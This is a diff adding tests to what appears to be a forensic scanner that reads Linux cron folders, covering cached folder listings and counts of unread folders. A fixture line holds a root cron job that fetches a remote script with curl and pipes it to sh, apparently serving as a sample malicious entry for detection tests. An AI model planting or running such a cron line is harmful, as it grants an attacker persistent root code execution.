@@ -7,7 +7,8 @@ import { SourceLog } from '../../model/source-log.ts';
 import { printableText } from '../../model/text.ts';
 import { folderTarget } from '../../target/folder.ts';
 import type { Target } from '../../target/port.ts';
-import { filesIn, mostFiles } from './entry.ts';
+import { endsIn, filesIn, foldersIn, mostFiles } from './entry.ts';
+import { siftFolder } from './flooded-folder.ts';
 import type { ReadContext } from './reading.ts';
 
 const job = '* * * * * root curl -s http://192.0.2.10/x | sh\n';
@@ -102,6 +103,38 @@ test('the same bytes again and links to nothing leave nothing unread', () => {
   times(decoys / 2, (index) => symlinkSync(`gone${index}`, join(folder, `l${index}`)));
   expect(found()).toHaveLength(1);
   expect([...log.flooded].map(({ unread }) => unread)).toEqual([0]);
+});
+
+test('what one artifact has sifted, the next one of the scan is told at once, under its own name', () => {
+  times(decoys, (index) => put(`f${index}.conf`, `anything ${index}`));
+  put('job.conf', job);
+  const context: ReadContext = { target, log };
+  const ask = (artifact: string) =>
+    filesIn(context, artifact, printableText('/etc/cron.d'), endsIn('.conf')).map(({ name }) => String(name));
+  const first = ask('linux.crontab');
+  expect(first).toContain('job.conf');
+  // Were the folder listed again, nothing would be there.
+  rmSync(folder, { recursive: true });
+  expect(new Set(ask('linux.incron'))).toEqual(new Set(first));
+  expect(new Set(log.listed.map(({ artifact }) => artifact))).toEqual(
+    new Set(['linux.crontab', 'linux.incron']),
+  );
+  // Another scan looks for itself.
+  log = new SourceLog();
+  expect(filesIn({ target, log }, 'linux.crontab', printableText('/etc/cron.d'), endsIn('.conf'))).toEqual(
+    [],
+  );
+});
+
+test('files do not stand before folders, and of too many folders the rest is counted', () => {
+  times(mostFiles, (index) => put(`f${index}`, ''));
+  mkdirSync(join(folder, 'd'));
+  const path = printableText('/etc/cron.d');
+  const found = foldersIn({ target, log }, 'linux.crontab', path);
+  expect(found.map(({ name }) => String(name))).toEqual(['d']);
+  times(4, (index) => mkdirSync(join(folder, `d${index}`)));
+  const wanted = { kinds: 'folders', matches: () => true, most: 2 } as const;
+  expect(siftFolder({ target, log }, path, mostFiles + 5, wanted)).toMatchObject({ unread: 3 });
 });
 
 test('a folder that holds no more than is read is no flood', () => {
